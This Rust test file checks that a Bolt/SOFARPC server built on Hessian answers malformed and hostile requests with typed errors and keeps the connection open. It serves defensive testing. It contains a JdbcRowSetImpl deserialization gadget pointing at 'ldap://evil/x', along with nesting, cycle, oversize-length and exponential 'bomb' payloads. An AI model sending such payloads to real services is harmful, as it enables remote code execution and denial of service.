//! Requests that are well-formed Bolt and nothing else: each gets a typed answer, and its connection goes on.
#![allow(clippy::unwrap_used, missing_docs, reason = "tests")]

mod support;

use diwan::hessian::{Decode, Decoder, Dialect, Encoder, Throwable};
use diwan_bolt::{FrameWriter, Head, HeaderMap, Kind, Status, write_entry};
use diwan_sofarpc::names::{REQUEST_CLASS, RESPONSE_CLASS, SERVER_EXCEPTION_CLASS};
use diwan_sofarpc::{Answer, RequestHead, read_response, write_request};
use support::*;

const HELLO: &str = "com.x.Hello:1.0";

fn head<'a>(service: &'a str, method: &'a str) -> RequestHead<'a> {
    RequestHead {
        service,
        method,
        target_app: None,
        invoke_type: "sync",
        deadline_remain_ms: None,
        entries: &[],
    }
}

fn request(
    out: &mut Vec<u8>,
    id: u32,
    codec: u8,
    (service, method): (&str, &str),
    signatures: &[&str],
    arguments: impl FnOnce(&mut Encoder<'_>),
) {
    let frame = Head::request(id, codec, 1000);
    write_request(
        out,
        frame,
        &head(service, method),
        signatures.iter().copied(),
        arguments,
        None,
    )
    .unwrap();
}

/// A request whose content is what `write` makes of it.
fn request_with_content(out: &mut Vec<u8>, id: u32, content: &[u8]) {
    let mut writer = FrameWriter::begin(out, Head::request(id, 1, 1000), REQUEST_CLASS.as_bytes());
    writer.header(|out| {
        write_entry(out, "service", HELLO);
        write_entry(out, "sofa_head_method_name", "say");
    });
    writer.content().extend_from_slice(content);
    writer.finish().unwrap();
}

/// What an answer says, in a line.
fn says(frame: &diwan::net::bolt::OwnedFrame) -> String {
    let frame = frame.frame();
    let Kind::Response { status } = frame.head.kind else {
        panic!("{frame:?}")
    };
    if status == Status::Success.code() {
        assert_eq!(frame.class, RESPONSE_CLASS.as_bytes());
        let answer = read_response(
            &frame,
            Default::default(),
            |decoder| Ok(decoder.value()?.describe()),
            |decoder| Throwable::decode(decoder).map(|thrown| thrown.to_string()),
            |content| Ok(String::from_utf8_lossy(content).into_owned()),
        );
        return match answer.unwrap() {
            Answer::Value(value) => format!("value {value}"),
            Answer::Exception(thrown) => format!("exception {thrown}"),
            Answer::Error(message) => {
                assert_eq!(
                    HeaderMap::new(frame.header).get("sofa_head_response_error"),
                    Some("true")
                );
                format!("error {message}")
            }
            Answer::Failure { .. } => unreachable!(),
        };
    }
    assert_eq!(frame.class, SERVER_EXCEPTION_CLASS.as_bytes());
    assert_eq!(frame.head.codec, 1, "whatever codec was asked in");
    let thrown = Throwable::decode(&mut Decoder::new(frame.content)).unwrap();
    format!("status {status:#x} {}", thrown.message.unwrap())
}

#[tokio::test]
async fn each_wrong_request_gets_the_originals_answer_and_harms_nothing() {
    let server = start();
    let raw = Raw::connect(server.local_addr());
    let deserialization = "status 0x12 [Server]OriginErrorMsg: com.alipay.remoting.exception.DeserializationException: ";

    let answer = raw
        .call(|out, id| request(out, id, 1, ("com.x.Nowhere:1.0", "say"), &[], |_| ()))
        .await;
    assert_eq!(
        says(&answer),
        "error RPC-020100010: RPC cannot find service: [com.x.Nowhere:1.0] "
    );

    for (method, signatures) in [
        ("shout", &[] as &[&str]),
        ("say", &[]),
        ("say", &["int", "int"]),
    ] {
        let answer = raw
            .call(|out, id| request(out, id, 1, (HELLO, method), signatures, |_| ()))
            .await;
        let expected = format!(
            "error RPC-020100011: Cannot find invoke method: [{method}], service: [{HELLO}] "
        );
        assert_eq!(says(&answer), expected);
    }

    // Too few arguments behind the signatures, one of another type, a gadget's class where a person is expected.
    let string = &["java.lang.String"];
    let answer = raw
        .call(|out, id| request(out, id, 1, (HELLO, "say"), string, |_| ()))
        .await;
    assert!(
        says(&answer).starts_with(deserialization),
        "{}",
        says(&answer)
    );
    let answer = raw
        .call(|out, id| {
            request(out, id, 1, (HELLO, "say"), string, |e| {
                e.list_begin(None, 0)
            })
        })
        .await;
    assert!(
        says(&answer).starts_with(deserialization),
        "{}",
        says(&answer)
    );
    let answer = raw
        .call(|out, id| {
            request(
                out,
                id,
                1,
                (HELLO, "greet"),
                &["com.x.Person", "int"],
                |e| {
                    e.object_dyn("com.sun.rowset.JdbcRowSetImpl", &["dataSourceName"]);
                    e.str("ldap://evil/x");
                    e.int(1);
                },
            );
        })
        .await;
    assert!(
        says(&answer).contains("com.sun.rowset.JdbcRowSetImpl"),
        "{}",
        says(&answer)
    );
    assert!(says(&answer).starts_with(deserialization));

    for codec in [2, 11, 12, 99] {
        let answer = raw
            .call(|out, id| request(out, id, codec, (HELLO, "say"), string, |e| e.str("x")))
            .await;
        assert!(
            says(&answer).contains(&format!("codec {codec} is not supported")),
            "{}",
            says(&answer)
        );
    }

    let answer = raw
        .call(|out, id| {
            FrameWriter::begin(out, Head::request(id, 1, 0), b"com.example.Nothing")
                .finish()
                .unwrap()
        })
        .await;
    assert_eq!(
        says(&answer),
        "status 0x2 No user processor found for request: com.example.Nothing"
    );

    for content in [&b""[..], b"\xff\xfe garbage", b"N", b"\x91"] {
        let answer = raw
            .call(|out, id| request_with_content(out, id, content))
            .await;
        assert!(
            says(&answer).starts_with(deserialization),
            "{}",
            says(&answer)
        );
    }

    // A header map with no end.
    let answer = raw
        .call(|out, id| {
            let mut writer =
                FrameWriter::begin(out, Head::request(id, 1, 0), REQUEST_CLASS.as_bytes());
            writer.header(|out| out.extend_from_slice(b"\0\0\0\x07service\0\0\x7f\xff"));
            writer.finish().unwrap();
        })
        .await;
    assert!(
        says(&answer).contains("header byte 15: 32767 bytes wanted, 0 left"),
        "{}",
        says(&answer)
    );

    let answer = raw
        .call(|out, id| request(out, id, 1, (HELLO, "say"), string, |e| e.str("Ann")))
        .await;
    assert_eq!(
        says(&answer),
        "value \"Hello, Ann!\"",
        "the same connection goes on"
    );
    assert_eq!(server.connections(), 1);
}

#[tokio::test]
async fn hostile_hessian_is_refused_within_bounds() {
    let server = start();
    let raw = Raw::connect(server.local_addr());
    let body = |arguments: &dyn Fn(&mut Vec<u8>)| {
        let mut frame = Vec::new();
        request(
            &mut frame,
            0,
            1,
            (HELLO, "say"),
            &["java.lang.String"],
            |_| (),
        );
        let diwan_bolt::Decoded::Frame { frame, .. } = diwan_bolt::decode(&frame, 1 << 20).unwrap()
        else {
            panic!()
        };
        let mut content = frame.content.to_vec();
        arguments(&mut content);
        content
    };
    let cases: [(&str, Vec<u8>); 4] = [
        // Lists within lists, 100,000 deep.
        (
            "nested",
            body(&|out| out.extend_from_slice(&b"Vn\x01".repeat(100_000))),
        ),
        // A list whose only item is the list: numbers 0 to 2 are the request's own containers.
        (
            "cycle",
            body(&|out| out.extend_from_slice(b"Vn\x01\x4a\x03z")),
        ),
        // A string that says it is longer than everything.
        ("length", body(&|out| out.extend_from_slice(b"S\xff\xffab"))),
        // A list of 2 billion.
        (
            "count",
            body(&|out| out.extend_from_slice(b"Vl\x7f\xff\xff\xff")),
        ),
    ];
    for (name, content) in cases {
        let answer = raw
            .call(|out, id| request_with_content(out, id, &content))
            .await;
        let said = says(&answer);
        assert!(said.starts_with("status 0x12 "), "{name}: {said}");
    }

    // A bomb: each list holds the one before twice, so that reading it out would take 2^64 steps.
    let mut bomb = Vec::new();
    let mut encoder = Encoder::new(Dialect::Draft, &mut bomb);
    encoder.list_begin(None, 0);
    encoder.list_end();
    let bomb = body(&|out| {
        out.extend_from_slice(b"Vn\x40");
        out.extend_from_slice(b"Vn\x00z");
        for level in 4u8..67 {
            out.extend_from_slice(&[b'V', b'n', 2, 0x4a, level, 0x4a, level, b'z']);
        }
        out.push(b'z');
    });
    let answer = raw
        .call(|out, id| request_with_content(out, id, &bomb))
        .await;
    assert!(
        says(&answer).starts_with("status 0x12 "),
        "{}",
        says(&answer)
    );

    assert_eq!(
        client(&server).say("Ann".into()).await.unwrap(),
        "Hello, Ann!"
    );
}
